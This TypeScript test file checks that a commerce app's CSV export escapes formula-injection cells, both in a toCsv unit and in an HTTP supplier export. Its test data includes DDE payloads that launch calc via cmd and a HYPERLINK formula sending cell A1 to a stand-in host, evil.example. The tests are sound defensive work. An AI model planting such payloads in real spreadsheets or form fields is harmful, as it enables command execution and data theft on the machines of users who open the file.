/**
 * CSV injection (docs/commerce.md "Imports and exports"): an exported text cell that starts with = + - @,
 * tab or CR is prefixed with a single quote; plain signed numbers and numeric cells stay as they
 * are, so money columns still read as numbers.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../server/domain/csv';
import { startServer, type Harness } from './harness';
import { headersFor } from './tokens';

describe('toCsv', () => {
  const parse = (csv: string) => Papa.parse<string[]>(csv.trim(), { header: false }).data;

  it.each([
    ['=HYPERLINK("http://evil.example","x")'],
    ['+1+cmd|" /C calc"!A0'],
    ['-2+3+cmd|" /C calc"!A0'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['=1+1\nsecond line'],
  ])('neutralises %j', (cell) => {
    const [, row] = parse(toCsv(['v'], [[cell]], true));
    expect(row[0]).toBe(`'${cell}`);
  });

  it('keeps numbers, plain signed number text and ordinary text', () => {
    const [, row] = parse(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, '-12.50', '+3', 'Acme = best', 'a@b.example']], true));
    expect(row).toEqual(['-5', '-12.50', '+3', 'Acme = best', 'a@b.example']);
  });
});

describe('an export over HTTP', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startServer();
  }, 60_000);
  afterAll(async () => h?.close());

  it('neutralises formula cells a seller typed into a supplier', async () => {
    const headers = await headersFor(h, 'seller@demo.local');
    const name = `=HYPERLINK("http://evil.example?x="&A1,"Click") ${Date.now()}`;
    const created = await fetch(`${h.url}/api/suppliers`, {
      method: 'POST',
      headers,
      body: JSON.stringify({ name, contact_name: '@SUM(1+1)*cmd|" /C calc"!A0', phone: '-1+1' }),
    });
    expect(created.status).toBe(201);
    const res = await fetch(`${h.url}/api/suppliers/export.csv`, { headers });
    expect(res.status).toBe(200);
    const rows = Papa.parse<Record<string, string>>((await res.text()).trim(), { header: true }).data;
    const row = rows.find((r) => Object.values(r).some((v) => v.includes('evil.example')));
    expect(row).toBeDefined();
    const cells = Object.values(row!);
    expect(cells).toContain(`'${name}`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(cells).toContain(`'-1+1`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });
});
